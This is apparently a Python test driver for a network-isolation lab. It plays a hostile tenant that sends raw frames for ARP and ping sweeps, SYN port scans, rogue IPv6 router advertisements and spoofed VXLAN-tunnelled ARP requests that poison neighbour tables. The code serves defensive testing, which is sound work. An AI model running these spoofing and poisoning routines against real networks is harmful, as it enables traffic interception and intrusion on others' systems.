"""A machine of a tenant that wants in: raw frames of its own making, and everything that answers them. A program too."""

from __future__ import annotations

import ipaddress
import json
import os
import select
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from tests.drivers.linux.lab import Host

EVERYBODY = "ff:ff:ff:ff:ff:ff"
_QUIET_SECONDS = 0.3
_PATIENCE_SECONDS = 20.0
_ARP, _IPV4, _IPV6 = 0x0806, 0x0800, 0x86DD
_ICMP, _TCP, _UDP, _ICMPV6 = 1, 6, 17, 58
_SYN_ACK = 0x12
_BATCH = 512
_SO_RCVBUFFORCE = 33  # socket(7)


def attack(host: Host, word: str, **values: object) -> Any:  # noqa: ANN401 - each attack has its own result
    """Run an attack from a machine, and return what it saw."""
    argv = ["nsenter", f"--net={host.namespace_path}", "--", sys.executable, "-S", "-E", str(Path(__file__))]
    done = subprocess.run(
        [*argv, word, json.dumps(values)], check=False, capture_output=True, text=True, timeout=500, cwd="/"
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


class _Wire:
    """The machine's interface, below its own kernel."""

    def __init__(self, interface: str = "eth0") -> None:
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self._socket.setsockopt(socket.SOL_SOCKET, _SO_RCVBUFFORCE, 64 << 20)
        self._socket.bind((interface, 0))
        self.mac = Path(f"/sys/class/net/{interface}/address").read_text(encoding="ascii").strip()

    def send(self, to: str, kind: int, payload: bytes) -> None:
        self._socket.send(_mac(to) + _mac(self.mac) + struct.pack(">H", kind) + payload)

    def frames(self, seconds: float = _QUIET_SECONDS) -> Iterator[bytes]:
        """Yield what arrives, until nothing has for a while."""
        end = time.monotonic() + _PATIENCE_SECONDS
        while select.select([self._socket], [], [], seconds)[0] and time.monotonic() < end:
            frame, origin = self._socket.recvfrom(65535)
            if origin[2] != socket.PACKET_OUTGOING:
                yield frame

    def ask(self, probes: Iterable[tuple[str, int, bytes]]) -> Iterator[bytes]:
        """Send probes in batches, and yield what arrives."""
        for number, probe in enumerate(probes, 1):
            self.send(*probe)
            if number % _BATCH == 0:
                yield from self.frames(0.0)
        yield from self.frames()


def arp(own: dict[str, str], targets: list[str]) -> list[list[str]]:
    """Ask who has the addresses; return each hardware address with the address that it says it has."""
    wire = _Wire()
    body = struct.pack(">HHBBH", 1, _IPV4, 6, 4, 1) + _mac(wire.mac) + _ip(own["ipv4"])
    probes = [(EVERYBODY, _ARP, body + bytes(6) + _ip(target)) for target in targets]
    answers = set()
    for frame in wire.ask(probes):
        kind, operation = struct.unpack(">H", frame[12:14])[0], frame[20:22]
        if kind == _ARP and operation == b"\x00\x02":
            answers.add((_mac_text(frame[22:28]), str(ipaddress.ip_address(frame[28:32]))))
    return sorted(map(list, answers))


def echo(own: dict[str, str], targets: list[list[str]]) -> list[list[str]]:
    """Ping each (hardware address, address); return who answered, or advertised itself, in the same form."""
    wire = _Wire()
    probes = []
    for mac, target in targets:
        if ":" in target:
            probes.append((mac, _IPV6, _ipv6(own["ipv6"], target, _ICMPV6, struct.pack(">BBHHH", 128, 0, 0, 7, 1))))
        else:
            body = struct.pack(">BBHHH", 8, 0, 0, 7, 1)
            body = struct.pack(">BBHHH", 8, 0, _sum(body), 7, 1)
            probes.append((mac, _IPV4, _ipv4(own["ipv4"], target, _ICMP, body)))
    return sorted(map(list, {found for frame in wire.ask(probes) if (found := _origin(frame)) is not None}))


def scan(own: dict[str, str], targets: list[list[str]], ports: list[int]) -> list[list[Any]]:
    """Ask each (hardware address, address) for a connection at each port (a first and a last); return who says something, at which open port.

    A port of 0 stands for a refusal.
    """
    wire = _Wire()

    def probes() -> Iterator[tuple[str, int, bytes]]:
        for mac, target in targets:
            source = own["ipv6" if ":" in target else "ipv4"]
            pseudo = _ip(source) + _ip(target) + struct.pack(">HH", _TCP, 20)
            head = _ipv6(source, target, _TCP, bytes(20)) if ":" in target else _ipv4(source, target, _TCP, bytes(20))
            for port in range(ports[0], ports[1] + 1):
                yield mac, _IPV6 if ":" in target else _IPV4, head[:-20] + _syn(pseudo, port)

    found = set()
    for frame in wire.ask(probes()):
        kind = struct.unpack(">H", frame[12:14])[0]
        if kind == _IPV4 and frame[23] == _TCP:
            origin, tcp = frame[26:30], frame[34:]
        elif kind == _IPV6 and frame[20] == _TCP:
            origin, tcp = frame[22:38], frame[54:]
        else:
            continue
        port = struct.unpack(">H", tcp[:2])[0] if tcp[13] & _SYN_ACK == _SYN_ACK and not tcp[13] & 4 else 0
        found.add((_mac_text(frame[6:12]), str(ipaddress.ip_address(origin)), port))
    return sorted(map(list, found))


def advertise(own: dict[str, str]) -> list[str]:
    """Call oneself the router of the link, with a prefix and for ever, and send everybody elsewhere."""
    wire = _Wire()
    prefix = struct.pack(">BBBBIII", 3, 4, 64, 0xC0, 7200, 7200, 0) + _ip("fd66::")
    source = struct.pack(">BB", 1, 1) + _mac(wire.mac)
    router = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix + source
    for _ in range(3):
        wire.send("33:33:00:00:00:01", _IPV6, _ipv6(own["ipv6"], "ff02::1", _ICMPV6, router, hops=255))
    return []


def poison(interface: str, packet: dict[str, Any], via: list[list[str]], sources: list[str]) -> list[str]:
    """Send tunnel packets that ask, for an address, who has another: the receiver notes the hardware address of who asks.

    `packet` has the vni, the hardware address (mac) and the address (claims) of who asks, and whom it asks (victim). `via` are the
    hardware and IP addresses of what may be an end of tunnels, `sources` the addresses that one pretends to have.
    """
    wire = _Wire(interface)
    asker = _mac(packet["mac"])
    request = (
        struct.pack(">HHBBH", 1, _IPV4, 6, 4, 1) + asker + _ip(packet["claims"]) + bytes(6) + _ip(packet["victim"])
    )
    inner = _mac(EVERYBODY) + asker + struct.pack(">H", _ARP) + request
    tunnel = struct.pack(">II", 0x08000000, packet["vni"] << 8) + inner
    datagram = struct.pack(">HHHH", 40000, 4789, 8 + len(tunnel), 0) + tunnel
    for to, target in via:
        for source in sources:
            wire.send(to, _IPV4, _ipv4(source, target, _UDP, datagram))
    return []


def _origin(frame: bytes) -> tuple[str, str] | None:
    kind = struct.unpack(">H", frame[12:14])[0]
    if kind == _IPV4 and frame[23] == _ICMP and frame[34] == 0:
        return _mac_text(frame[6:12]), str(ipaddress.ip_address(frame[26:30]))
    if kind == _IPV6 and frame[20] == _ICMPV6 and frame[54] in {129, 136}:
        return _mac_text(frame[6:12]), str(ipaddress.ip_address(frame[22:38]))
    return None


def _syn(pseudo: bytes, port: int) -> bytes:
    head = struct.pack(">HHIIBBHHH", 40000, port, 1, 0, 5 << 4, 2, 1024, 0, 0)
    return head[:16] + struct.pack(">H", _sum(pseudo + head)) + head[18:]


def _ipv4(source: str, target: str, protocol: int, body: bytes) -> bytes:
    def head(checksum: int) -> bytes:
        fields = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, protocol, checksum)
        return fields + _ip(source) + _ip(target)

    return head(_sum(head(0))) + body


def _ipv6(source: str, target: str, protocol: int, body: bytes, hops: int = 64) -> bytes:
    if protocol == _ICMPV6:  # which sums its own header with the addresses
        checksum = _sum(_ip(source) + _ip(target) + struct.pack(">II", len(body), protocol) + body)
        body = body[:2] + struct.pack(">H", checksum) + body[4:]
    return struct.pack(">IHBB", 6 << 28, len(body), protocol, hops) + _ip(source) + _ip(target) + body


def _sum(data: bytes) -> int:
    total = sum(struct.unpack(f">{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def _mac_text(packed: bytes) -> str:
    return packed.hex(":")


def _ip(text: str) -> bytes:
    return ipaddress.ip_address(text).packed


if __name__ == "__main__":
    os.chdir("/")
    print(json.dumps(globals()[sys.argv[1]](**json.loads(sys.argv[2]))))  # noqa: T201 - a program prints
